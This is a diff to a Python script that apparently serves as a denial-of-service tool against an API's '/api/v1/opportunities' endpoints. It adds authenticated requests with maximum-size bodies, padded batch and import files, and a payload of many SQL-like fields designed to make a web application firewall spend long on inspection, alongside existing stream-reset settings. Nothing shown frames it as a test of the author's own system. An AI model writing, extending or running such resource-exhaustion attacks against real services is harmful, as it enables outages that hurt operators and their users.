@@ -21,6 +21,9 @@ STREAMS = 1000  # requests that a client begins and resets in one part
 PARTS = 20  # for one connection
 SEARCH = "GET /api/v1/opportunities?limit=25&include=total&q="
 LARGE = json.dumps({"title": "x" * 2**20})[: 2**20 - 2] + '"}'
+BATCH, FILE = f"[{' ' * (2**20 - 2)}]", f"[{' ' * (5 * 2**20 - 2)}]"
+# As many and as long fields as the firewall inspects.
+COSTLY = json.dumps({f"field{n}": "select a from b " * 11 for n in range(100)})
 numbers = itertools.count(1)
 
 
@@ -146,9 +149,28 @@ async def search(attack: Attack, number: int) -> None:
 
 async def large_body(attack: Attack, number: int) -> None:
     """Send the largest body that is allowed."""
+    await _post(attack, number, "/api/v1/opportunities", LARGE)
+
+
+async def batch(attack: Attack, number: int) -> None:
+    """Send the largest batch, which has no operations."""
+    await _post(attack, number, "/api/v1/opportunities/batch", BATCH)
+
+
+async def file(attack: Attack, number: int) -> None:
+    """Send the largest file to import, which is empty."""
+    await _post(attack, number, "/api/v1/opportunities/import", FILE)
+
+
+async def costly_body(attack: Attack, number: int) -> None:
+    """Send fields that a firewall needs long for."""
+    await _post(attack, number, "/api/v1/opportunities", COSTLY)
+
+
+async def _post(attack: Attack, number: int, path: str, body: str) -> None:
     fields = f"Authorization: Bearer {attack.token}\r\nContent-Type: application/json\r\n"
-    fields += f"Content-Length: {len(LARGE)}\r\n"
-    await _ask(attack, number, "POST /api/v1/opportunities", fields, LARGE)
+    fields += f"Content-Length: {len(body)}\r\n"
+    await _ask(attack, number, f"POST {path}", fields, body)
 
 
 async def _ask(attack: Attack, number: int, line: str, fields: str = "", body: str = "") -> None:
